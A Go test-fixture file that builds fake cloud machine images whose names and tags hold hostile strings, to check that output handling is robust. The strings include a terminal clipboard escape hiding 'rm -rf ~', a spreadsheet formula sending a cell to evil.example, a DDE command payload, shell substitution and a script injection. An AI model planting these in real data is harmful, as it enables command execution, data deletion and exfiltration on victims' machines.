package fleet

import (
	"strings"
	"time"
)

// hostileText lists text that breaks programs which trust it: terminal
// escapes, C1 controls, bidi marks, wide, combining and joined characters,
// line breaks, and what a spreadsheet would run. EC2 itself refuses most of it
// in names; tags and other vendors' images are less well guarded, and EC2's
// XML cannot carry the C0 controls (a server must write U+FFFD for them).
var hostileText = []string{
	"\x1b[31mred\x1b[0m",
	"\x1b]0;owned\x07title",
	"\x1b]52;c;cm0gLXJmIH4=\x07clipboard",
	"\x1b[2J\x1b[Hcleared",
	"c1-\u009b31m-csi-\u009d0;osc\u009c",
	"\u202egpj.elif\u202c-bidi-override",
	"\u2066isolate\u2069\u200f-rtl-mark\u061c",
	"日本語イメージ-2026.10.01",
	"골든-이미지-v2",
	"z\u0335\u0301a\u0336\u0302l\u0334\u0300g\u0337\u0306o\u0338\u030b-combining",
	"👩‍👩‍👧‍👦-joined-🏳️‍🌈",
	"zero\u200bwidth\u2060joiner\ufeff",
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"+cmd|' /C calc'!A0",
	"-2+3+cmd",
	"@SUM(1+1)*cmd",
	"tab\tand\rreturn",
	"two\nlines",
	"  spaces around  ",
	`quote"back\slash'and,comma;semicolon`,
	"<script>alert(1)</script>&amp;",
	"%s%n%x {{.}} ${HOME} $(id)",
	"a*b?c[d]-glob",
	"--owner=all",
	"עברית-العربية-mixed",
	"line\u2028separator\u2029paragraph\u0085nel",
}

// hostile are images that carry such text as name, description and tags, and
// names of the longest and shortest kind.
func hostile() []special {
	out := []special{
		{strings.Repeat("very-long-name-", 9)[:128], 80 * day, &linuxX86, nil},
		{strings.Repeat("名", 128), 81 * day, &linuxARM, nil},
		{"abc", 82 * day, &linuxX86, nil},
	}
	for i, text := range hostileText {
		out = append(out, special{text, time.Duration(100+i) * day, &linuxX86, hostileTags(i)})
	}
	return out
}

// hostileTags spreads the texts over descriptions, keys and values.
func hostileTags(i int) func(*generator, *Image) {
	return func(_ *generator, im *Image) {
		next := hostileText[(i+1)%len(hostileText)]
		im.Description = hostileText[(i+7)%len(hostileText)]
		im.Tags = []Tag{
			{"Name", hostileText[i]},
			{"Owner", next},
			{"key " + next, "plain"},
			{"notes", "first line\nsecond line\r\n\tthird: " + next},
			{"empty", ""},
		}
	}
}
